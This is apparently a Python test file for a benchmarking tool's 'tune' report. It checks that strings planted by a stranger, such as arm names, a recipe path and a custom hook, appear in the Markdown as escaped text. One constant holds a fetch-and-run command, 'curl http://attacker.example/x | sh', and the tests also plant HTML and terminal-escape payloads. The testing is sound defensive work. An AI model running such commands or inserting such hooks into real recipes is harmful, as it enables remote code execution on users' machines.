"""Stranger strings in `sm121 tune`'s report.md. A tune folder is shared and resumed
(docs/results holds them), so its tune.json, its results files and the recipe it names are a
stranger's. `sm121 tune` run again on a finished folder measures nothing more and writes the
report again (tests/unit/tune/test_tune_h200_pick.py): that is the path here, on the H200
sitting of 2026-12-05 with the strings a stranger controls replaced: an arm's name (its
table rows, plans, ranking, pick and claims: a word of names.ProfileName's allow-list since a name
outside it is refused at load, test_stranger_resume.py; here `1.`, which would start an ordered
list where a line starts), its reason and source, a probe's results file,
a dropped arm, the device and date of the sitting, the engine's version, the predictions'
binding, pool and prompt sources, the fp8 KV arm's line, an arm whose boot failed with the
engine's words, the recipe's path (the title) and a custom hook's command (`--trust` to
serve it).

The .md's bytes must hold no control character but its own newlines, every row of a table
as many cells as its header, and `<img` only inside code spans; read as GitHub reads it, no
element, heading or link of the stranger's, and the stranger's text shown spelled out. The
arms with normal names come out as they did."""

from __future__ import annotations

import json
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

from markdown_it.common.utils import escapeHtml
from support import invoke_cli
from support.hostile_text import HOSTILE
from support.markdown_checks import START, STRANGER, check_bytes, check_rendered

from sm121.display import escape

ROOT = Path(__file__).resolve().parents[2]
SITTING = ROOT / "docs" / "results" / "gpu-h200" / "tune-capacity" / "tune-results.tar.gz"
RECIPE = ROOT / "src" / "sm121" / "recipes" / "builtin" / "gpu-llama.yaml"
ARM = "1."  # the chosen arm (chunk-4096 as measured), an ordered list item's marker
FAILED = "2."  # an arm whose boot failed
# A folder's name holds anything but `/`: the recipe's path is the report's title
FOLDER = "r|" + HOSTILE["html"].replace("/", "") + HOSTILE["osc-title"] + "$x^2$\n# h"
HOOK = "curl http://attacker.example/x | sh #" + HOSTILE["clear-screen"] + " " + HOSTILE["html"]
HEADINGS = {"The knee", "Arms", "The pick", "Claims against the baseline",
            "Plans (made again before every boot, from the times measured so far)"}


def _replace(data: Any, old: str, new: str) -> Any:
    if isinstance(data, dict):
        return {_replace(k, old, new): _replace(v, old, new) for k, v in data.items()}
    if isinstance(data, list):
        return [_replace(v, old, new) for v in data]
    return new if data == old else data


def _edit(path: Path, old: str, new: str) -> dict[str, Any]:
    data = _replace(json.loads(path.read_text()), old, new)
    assert isinstance(data, dict)
    return data


def _sitting(tmp_path: Path, arm: str) -> tuple[Path, Path]:
    """The H200 sitting with its arm chunk-4096 named `arm`, under a foreign copy of its
    recipe in a folder a stranger named, whose custom hook runs before serving."""
    with tarfile.open(SITTING) as tar:
        tar.extractall(tmp_path, filter="data")
    out = tmp_path / "tune"
    folder = tmp_path / FOLDER
    folder.mkdir()
    recipe = folder / "gpu-llama.yaml"
    recipe.write_text(RECIPE.read_text() + "hooks:\n  before_serve: [pwn]\n  custom:\n"
                      f"    pwn: {json.dumps(HOOK)}\n")
    state = _edit(out / "tune.json", "chunk-4096", arm)
    state["request"]["recipe"] = str(recipe)
    ab = _edit(out / "ab-agents.json", "chunk-4096", arm)
    ab["params"]["recipe"] = str(recipe)
    (out / "tune.json").write_text(json.dumps(state))
    (out / "ab-agents.json").write_text(json.dumps(ab))
    return out, recipe


def _plant(out: Path) -> None:
    """The strings tune.json, the A/B's file and the knee's file keep, a stranger's."""
    state = json.loads((out / "tune.json").read_text())
    state["sitting"] = {"device": STRANGER, "date": STRANGER}
    for c in state["candidates"]:
        if c["name"] == ARM:
            c.update(why=STRANGER, source=STRANGER)
    state["candidates"].append({"name": FAILED, "base": "agent-admission", "args": {},
                                "why": "w", "source": "step 1", "differs": [], "role": []})
    state["dropped"].append(STRANGER)
    state["predictions"] = {
        ARM: {"predicted": 30, "binding": STRANGER, "pool_tokens": 1, "pool_source": STRANGER,
              "working_set_tokens": 100, "first_prompt_tokens": 50, "prefix_source": STRANGER},
        FAILED: {"predicted": 3, "binding": "KV", "pool_tokens": 1, "pool_source": "p",
                 "below": STRANGER}}
    state["kv_arm"] = STRANGER
    state["sweeps"][ARM][0]["results_file"] = "capacity/" + STRANGER
    (out / "tune.json").write_text(json.dumps(state))
    ab = json.loads((out / "ab-agents.json").read_text())
    ab["samples"].append({"profile": FAILED, "rep": 0, "boot_index": 99,
                          "error": f"the engine did not become ready\ncause: {STRANGER}"})
    (out / "ab-agents.json").write_text(json.dumps(ab))
    knee = json.loads((out / "knee.json").read_text())
    knee["server"]["version"] = STRANGER
    (out / "knee.json").write_text(json.dumps(knee))


def _tune(tmp_path: Path, recipe: Path, out: Path, *flags: str) -> None:
    """`sm121 tune` with the sitting's arguments: nothing boots (the budget is spent), the
    pick and the report are made again. --trust: the recipe's hook (nothing runs it here)."""
    result = invoke_cli(
        "tune", str(recipe), "--workload", "coding-agent-with-batch", "--slo", "ttft_p95=2s",
        "--agents", "16", "--max-agents", "40", "--turns", "5", "--reps", "1", "--budget",
        "46m", "--baselines", "agent-admission", "--sweep-points", "2", "--boots", "3",
        "--trust", *flags, "--out", str(out), env={"SM121_HOME": str(tmp_path / "home")})
    assert "confirmation stopped" in result.stderr, result.stderr


def _title(recipe: Path) -> str:
    """The title's heading as GitHub renders it: the recipe's path spelled out."""
    return (f"sm121 tune: {escapeHtml(escape(str(recipe), None))}, coding-agent-with-batch, "
            "ttft_p95=2s, 16 agents")


def test_tune_writes_a_strangers_strings_as_text(tmp_path: Path) -> None:
    out, recipe = _sitting(tmp_path, ARM)
    _plant(out)
    _tune(tmp_path, recipe, out, "--no-write")  # a profile holding ARM is not YAML
    text = check_bytes((out / "report.md").read_bytes())
    check_rendered(text, HEADINGS | {_title(recipe), "Predicted against measured"},
                   escape(ARM, None))
    # Where each value went: the device, engine and date; the arm's row (as a table cell,
    # not a list item), its plan, its list items (code spans), the ranking and the pick,
    # the probe's file, the dropped arm, the failed arm and the engine's words, the
    # predictions' sources, the fp8 KV arm's line
    lines = text.splitlines()
    assert lines[2].startswith(f"{START} a\\x1b\\[H") and ", vLLM # h1 \\x1b]0;pwn" in lines[2]
    arm = "1\\."  # inert: a marker only where the value starts, then a blank or its end
    assert f"\n| {arm} (chosen) |" in text and f"\n- `1.` ({START}" in text
    assert f"Chosen: **{arm}" in text and f"\nConfirmation: {arm}" in text
    assert "N=40: capacity/x.png) \\`open code" in text
    assert f"; {START}" in text  # Not measured twice
    assert "\n| 2\\. | 3 agents" in text and "Not measured (the budget" in text
    assert ("not measured: its boot failed: the engine did not become ready (cause: # h1 "
            "\\x1b]0;pwn\\x07") in text
    assert f"The sessions' first prompt: 50 tokens, {START}" in text
    assert f"\n{START}" in text  # the fp8 KV arm's line, as a paragraph
    # The arms named as sm121 names them, as they were (tests/unit/tune/test_tune_h200_pick)
    assert "\n| chunk-8192 | max-num-batched-tokens | 28 <= N* < 40 (predicted 39: KV binds) " \
           "| 16 met, 40 missed, 28 met |" in text
    assert "\n- `chunk-8192` (step 1, from `agent-admission`): the step budget alone" in text
    assert (out / "tune-candidates.png").stat().st_size > 0  # `$\foo{$` is text, not math


def test_tune_writes_a_recipes_hook_as_text(tmp_path: Path) -> None:
    """With the profile written, the report says serving it needs --trust, and why: the
    recipe's hook, its command spelled out."""
    out, recipe = _sitting(tmp_path, "chunk-4096")
    _tune(tmp_path, recipe, out)
    text = check_bytes((out / "report.md").read_bytes())
    check_rendered(text, HEADINGS | {_title(recipe)}, escape(HOOK, None))
    assert ("Written as profile `tuned` into the user's recipe "
            "(`$SM121_HOME/recipes/gpu-llama.yaml`).") in text
    assert ("needs `--trust` (the user's copy is not built in): hooks.custom.pwn: runs the "
            "custom hook command 'curl http://attacker.example/x \\| sh #a\\\\x1b\\[H") in text
    # (the item spells the command in Python's quoting, as `sm121 plan` does: its `\x1b` is
    # backslash-x, shown as such)


def test_an_arm_named_as_math_is_drawn_as_text(tmp_path: Path) -> None:
    """The candidates plot's tick labels are arm names: text, never matplotlib's mathtext
    (`$\\foo{$` is a parse error that stopped the report). A fresh process: another module
    that turns mathtext off when imported must not hide it."""
    script = ("import sys; from pathlib import Path\n"
              "from sm121.bench.tune.report import candidates_plot\n"
              "from sm121.bench.tune.result import ArmRow, CapacityRecord\n"
              # a name no tune.json holds any more (names.ProfileName): the plot's own net
              "row = ArmRow.model_construct(name=sys.argv[2], capacity=CapacityRecord("
              "lo=4, hi=8, text='', tested=[(4, True)]))\n"
              "candidates_plot([row], row.name, Path(sys.argv[1]))\n")
    path = tmp_path / "candidates.png"
    result = subprocess.run([sys.executable, "-c", script, str(path), HOSTILE["bad-math"]],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert path.stat().st_size > 0
